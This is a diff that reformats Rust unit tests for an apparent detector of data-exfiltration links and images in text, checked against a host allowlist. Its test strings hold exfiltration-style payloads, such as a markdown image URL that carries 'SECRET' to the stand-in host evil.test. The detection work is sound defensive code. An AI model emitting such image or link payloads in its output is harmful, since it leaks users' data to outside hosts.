@@ -93,14 +93,26 @@ mod tests {
 
     fn f(t: &str) -> Vec<(&'static str, &str)> {
         let d = Exfil::new(&["docs.example.com".to_string(), "*.corp.example".to_string()]);
-        scan(Box::new(d), t).into_iter().map(|x| (x.ty, &t[x.start..x.end])).collect()
+        scan(Box::new(d), t)
+            .into_iter()
+            .map(|x| (x.ty, &t[x.start..x.end]))
+            .collect()
     }
 
     #[test]
     fn non_allowlisted_hosts_are_flagged() {
-        assert_eq!(f("ok ![x](https://evil.test/p.png?d=SECRET) done"), [("exfil_image", "![x](https://evil.test/p.png?d=SECRET)")]);
-        assert_eq!(f("see [here](http://evil.test/a)"), [("exfil_link", "[here](http://evil.test/a)")]);
-        assert_eq!(f(r#"<img src="https://evil.test/x.gif?q=1">"#), [("exfil_image", r#"<img src="https://evil.test/x.gif?q=1">"#)]);
+        assert_eq!(
+            f("ok ![x](https://evil.test/p.png?d=SECRET) done"),
+            [("exfil_image", "![x](https://evil.test/p.png?d=SECRET)")]
+        );
+        assert_eq!(
+            f("see [here](http://evil.test/a)"),
+            [("exfil_link", "[here](http://evil.test/a)")]
+        );
+        assert_eq!(
+            f(r#"<img src="https://evil.test/x.gif?q=1">"#),
+            [("exfil_image", r#"<img src="https://evil.test/x.gif?q=1">"#)]
+        );
     }
 
     #[test]
